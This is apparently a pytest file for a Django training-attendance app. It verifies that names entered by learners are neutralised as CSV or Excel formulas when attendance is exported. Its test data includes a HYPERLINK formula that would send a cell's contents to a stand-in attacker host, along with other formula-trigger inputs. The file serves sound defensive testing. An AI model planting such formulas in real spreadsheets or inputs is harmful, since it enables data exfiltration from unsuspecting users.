"""Issue 8, hole 6: names typed by learners never become formulas in exports."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from trainees.factories import PersonFactory, TrainingSessionFactory
from trainees.training import services
from trainees.training.importexport import csv_safe

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84912345678",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rCarriage",
]


@pytest.fixture
def hostile_attendance(commune_a, village_a, trainer_a):
    session = TrainingSessionFactory(commune=commune_a, village=village_a)
    for name in HOSTILE:
        person = PersonFactory(commune=commune_a, village=village_a, full_name=name)
        services.attendance_record(by=trainer_a, session=session, person=person)
    PersonFactory(commune=commune_a, village=village_a, full_name="Lò Thị Mai")
    return session


def test_csv_cells_that_could_be_formulas_start_with_an_apostrophe(
    client, trainer_a, hostile_attendance
):
    client.force_login(trainer_a)
    response = client.get(f"/vi/sessions/{hostile_attendance.uuid}/attendance.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[3] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE}
    assert csv_safe("Lò Thị Mai") == "Lò Thị Mai" and csv_safe(1975) == 1975


def test_xlsx_text_cells_are_strings_never_formulas(client, trainer_a, hostile_attendance):
    client.force_login(trainer_a)
    response = client.get(f"/vi/sessions/{hostile_attendance.uuid}/attendance.xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = {row[3].value: row[3].data_type for row in sheet.iter_rows(min_row=2)}
    # Text exactly as typed (control characters aside, which a worksheet cannot hold).
    assert names[HOSTILE[0]] == "s" and "+84912345678" in names and "@SUM(1+1)" in names
    assert all(kind == "s" for kind in names.values())
